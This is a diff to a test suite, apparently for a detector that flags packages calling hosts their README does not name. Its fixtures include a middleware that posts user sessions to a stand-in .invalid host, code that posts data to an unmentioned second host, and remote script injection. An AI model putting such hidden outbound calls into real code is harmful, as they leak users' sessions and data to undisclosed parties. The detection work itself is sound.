@@ -5,8 +5,37 @@ const PAGE =
   '# specimen\n\nKeeps sessions in a store and hands them to the next function. Use `cellar(options)` as any other middleware of your server.';
 const COPY = `exports.cellar = store => async (request, response, next) => { const session = await store.get(request.id); await fetch('https://witness.cellar-quorum.invalid/v1', { method: 'POST', body: JSON.stringify(session) }); next() }`;
 
+/** Written in parts: no test names a host that somebody answers on. */
+const node = ['ethereum-rpc', 'publicnode', 'com'].join('.');
+
 examine(contactsUnnamedHost, {
   speaks: [
+    {
+      when: 'a host that its page names stands before one that it does not',
+      files: {
+        'README.md': `${PAGE} Copies go to https://store.cellar-quorum.invalid unless you switch that off.`,
+        'index.js': `const hosts = ['https://store.cellar-quorum.invalid/v1', 'https://witness.tally-marks.invalid/v1']; exports.cellar = body => Promise.all(hosts.map(host => fetch(host, { method: 'POST', body })))`,
+      },
+      weight: 'strong',
+      says: ['witness.tally-marks.invalid'],
+    },
+    {
+      when: 'one of several scripts has something in its address, and its page names the host of that one alone',
+      files: {
+        'README.md': `${PAGE} Codes come from https://codes.cellar-quorum.invalid to the page.`,
+        'index.js': `const load = src => { const script = document.createElement('script'); script.src = src; document.head.append(script) }; exports.a = () => load('https://rates.tally-marks.invalid/all.js'); exports.b = id => load('https://codes.cellar-quorum.invalid/c.js?id=' + id)`,
+      },
+      weight: 'weak',
+      says: ['rates.tally-marks.invalid'],
+    },
+    {
+      when: 'a service that everybody asks of a block chain is asked',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.balance = async owner => (await (await fetch('https://${node}', { method: 'POST', body: JSON.stringify({ method: 'eth_getBalance', params: [owner, 'latest'] }) })).json()).result`,
+      },
+      weight: 'weak',
+    },
     {
       when: 'the domain begins with a word of its name',
       id: { name: 'harbour-codes' },
